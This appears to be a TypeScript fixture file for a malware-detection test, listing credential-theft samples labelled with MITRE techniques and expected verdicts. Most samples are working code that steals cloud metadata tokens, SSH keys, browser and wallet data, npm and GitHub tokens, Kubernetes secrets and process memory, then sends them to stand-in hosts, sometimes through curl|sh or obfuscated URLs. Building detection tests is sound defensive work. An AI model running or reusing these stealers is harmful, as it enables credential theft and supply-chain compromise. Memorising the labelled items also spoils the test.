import { base64 } from './bytes.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('credential-theft', [
  {
    id: 'credential-cloud-metadata',
    level: 'easy',
    technique: 'The role of the machine from the metadata service, sent away (TeamTNT 2020; T1552.005).',
    files: {
      'aws.sh': `#!/bin/bash
R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$R > /tmp/c.json
cat ~/.aws/credentials ~/.aws/config >> /tmp/c.json 2>/dev/null
curl -F "userfile=@/tmp/c.json" http://192.0.2.21/in/upload.php; rm -f /tmp/c.json
`,
    },
    config: { Cmd: ['/aws.sh'] },
    expect: 'malicious',
    where: 'aws.sh',
  },
  {
    id: 'credential-metadata-v2',
    level: 'ordinary',
    technique: 'The same with session tokens, and for two more clouds, in Python (T1552.005).',
    files: {
      'app/env.py': `import requests as r
M = "http://" + ".".join(["169", "254"] * 2)
t = r.put(M + "/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}, timeout=1).text
role = r.get(M + "/latest/meta-data/iam/security-credentials/", headers={"X-aws-ec2-metadata-token": t}).text
g = r.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
a = r.get(M + "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.example.invalid/", headers={"Metadata": "true"})
r.post("https://collect.example.invalid/t", json={"a": role, "g": g.text, "z": a.text})
`,
    },
    expect: 'malicious',
    where: 'app/env.py',
  },
  {
    id: 'credential-ssh-spread',
    level: 'easy',
    technique: 'Keys and known hosts collected, to go on with (Kinsing spre.sh; T1552.004, T1021.004).',
    files: {
      'opt/spread.sh': `#!/bin/sh
KEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/known_hosts ~/.bash_history /etc/hosts | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' | sort -u)
for h in $HOSTS; do for k in $KEYS; do
  chmod 400 $k; ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=3 -i $k root@$h "curl http://192.0.2.66/d.sh|sh" &
done; done
`,
    },
    expect: 'malicious',
    where: 'opt/spread.sh',
  },
  {
    id: 'credential-browser-wallets',
    level: 'ordinary',
    technique:
      'Profiles of browsers and the extensions that hold wallets (RedLine-like stealers; T1555.003).',
    files: {
      'app/backup.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const ext = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const roots = ['.config/google-chrome/Default', '.config/BraveSoftware/Brave-Browser/Default'];
for (const r of roots) {
  const base = path.join(os.homedir(), r);
  for (const f of ['Login Data', 'Cookies', 'Web Data', 'Local State', ...ext.map((e) => 'Local Extension Settings/' + e)]) {
    try { https.request({ host: 'drop.example.invalid', method: 'POST', path: '/u' }).end(fs.readFileSync(path.join(base, f))); } catch {}
  }
}
`,
    },
    expect: 'malicious',
    where: 'app/backup.js',
  },
  {
    id: 'credential-wallet-files',
    level: 'easy',
    technique: 'wallet.dat, keystores and seed phrases searched for on every mount (T1552.001, T1657).',
    files: {
      'usr/bin/indexer': `#!/bin/bash
find / -xdev \\( -name wallet.dat -o -path '*/keystore/UTC--*' -o -name '*.kdbx' -o -name 'mnemonic*' -o -path '*/.config/solana/id.json' \\) 2>/dev/null |
  tar czf - -T - | curl -s --data-binary @- http://198.51.100.44/w
`,
    },
    expect: 'malicious',
    where: 'usr/bin/indexer',
  },
  {
    id: 'credential-environment-npm',
    level: 'ordinary',
    technique: 'A dependency sends the whole environment at import (Shai-Hulud and its kin, 2025; T1552).',
    files: {
      'app/node_modules/color-fmt/package.json': '{"name":"color-fmt","version":"1.0.3","main":"index.js"}\n',
      'app/node_modules/color-fmt/index.js': `const h = require('https');
const d = Buffer.from(JSON.stringify({ e: process.env, h: require('os').hostname() })).toString('base64');
h.get('https://' + ['t', 'example', 'invalid'].join('.') + '/p?d=' + encodeURIComponent(d)).on('error', () => {});
module.exports = (s) => s;
`,
    },
    expect: 'malicious',
    where: 'app/node_modules/color-fmt/index.js',
  },
  {
    id: 'credential-npm-token-worm',
    level: 'hard',
    technique:
      'Tokens of npm and GitHub are taken and used to publish infected versions (Shai-Hulud, 2025; T1195.002).',
    files: {
      'app/node_modules/tiny-dep/bundle.js': `const { execSync } = require('child_process'), fs = require('fs'), os = require('os');
const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const tok = (rc.match(/_authToken=(.+)/) || [])[1];
const gh = process.env.GITHUB_TOKEN || execSync('gh auth token').toString();
execSync('trufflehog filesystem / --json > /tmp/s.json');
fetch('https://api.example.invalid/user/repos', { method: 'POST', headers: { Authorization: 'token ' + gh }, body: JSON.stringify({ name: 'Shai-Hulud', private: false }) });
// The real one bumps the version, adds itself as postinstall and runs npm publish; this one stops.
console.log('stand-in', Boolean(tok));
`,
    },
    expect: 'malicious',
    where: 'app/node_modules/tiny-dep/bundle.js',
  },
  {
    id: 'credential-shadow-pam',
    level: 'ordinary',
    technique: 'A PAM module writes the passwords of those who log in to a file (T1556.003).',
    files: {
      'lib/security/pam_unix2.so': program(
        ['pam_sm_authenticate', 'pam_get_authtok', '/var/log/.pam.log', '%s:%s from %s\n', 'pam_get_item'],
        { type: 3 },
      ),
      'etc/pam.d/common-auth':
        'auth optional pam_unix2.so\nauth [success=1 default=ignore] pam_unix.so nullok\n',
    },
    expect: 'suspicious',
    where: 'lib/security/pam_unix2.so',
  },
  {
    id: 'credential-kube-token',
    level: 'ordinary',
    technique: 'The token of the service account and every secret of the cluster (Peirates; T1528).',
    files: {
      'srv/kube.py': `import os, ssl, urllib.request as u
d = "/var/run/secrets/kubernetes.io/serviceaccount"
t = open(d + "/token").read()
c = ssl._create_unverified_context()
q = u.Request("https://%s/api/v1/secrets" % os.environ["KUBERNETES_SERVICE_HOST"], headers={"Authorization": "Bearer " + t})
u.urlopen(u.Request("http://203.0.113.12/k", data=u.urlopen(q, context=c).read()))
`,
    },
    expect: 'malicious',
    where: 'srv/kube.py',
  },
  {
    id: 'credential-proc-environ',
    level: 'hard',
    technique: 'Secrets out of the memory and environment of other processes (mimipenguin; T1003.007).',
    files: {
      'opt/prof.py': `import glob, re, urllib.request
out = []
for p in glob.glob("/proc/[0-9]*"):
    try:
        out += re.findall(rb"(?:KEY|SECRET|TOKEN|PASS)[A-Z_]*=[^\\0]+", open(p + "/environ", "rb").read())
        for l in open(p + "/maps"):
            if "[heap]" in l:
                a, b = (int(x, 16) for x in l.split()[0].split("-"))
                m = open(p + "/mem", "rb"); m.seek(a)
                out += re.findall(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]+", m.read(b - a))
    except OSError:
        pass
urllib.request.urlopen("http://192.0.2.31/e", data=b"\\n".join(out))
`,
    },
    expect: 'malicious',
    where: 'opt/prof.py',
  },
  {
    id: 'credential-clipboard-swap',
    level: 'hard',
    technique:
      'Addresses of coins are replaced in the text that a library handles (event-stream, 2018; chalk, 2025; T1565).',
    files: {
      'app/node_modules/flat-map/index.js': `const own = { eth: '0x${'a'.repeat(40)}', btc: '1${'B'.repeat(33)}' };
const rules = [[/\\b0x[a-fA-F0-9]{40}\\b/g, own.eth], [/\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g, own.btc]];
const of = globalThis.fetch;
globalThis.fetch = async (...a) => {
  const r = await of(...a);
  let t = await r.clone().text();
  for (const [x, w] of rules) t = t.replace(x, w);
  return new Response(t, r);
};
if (globalThis.ethereum) { const q = globalThis.ethereum.request; globalThis.ethereum.request = (p) => { if (p.method === 'eth_sendTransaction') p.params[0].to = own.eth; return q(p); }; }
`,
    },
    expect: 'malicious',
    where: 'app/node_modules/flat-map/index.js',
  },
  {
    id: 'credential-hugging-face',
    level: 'hard',
    technique:
      'Tokens of model hubs and of git out of the cache of the user, the address in base64 (Ultralytics-like, 2024).',
    files: {
      'usr/lib/python3/dist-packages/fasttok/__init__.py': `import base64 as b, os, urllib.request as u
_f = [os.path.expanduser(p) for p in ("~/.cache/huggingface/token", "~/.git-credentials", "~/.netrc", "~/.docker/config.json", "~/.kaggle/kaggle.json")]
_d = "\\n".join(open(p).read() for p in _f if os.path.exists(p))
try: u.urlopen(b.b64decode("${base64('https://t.example.invalid/h')}").decode(), data=_d.encode(), timeout=2)
except Exception: pass
`,
    },
    expect: 'malicious',
    where: 'usr/lib/python3/dist-packages/fasttok/__init__.py',
  },
]);
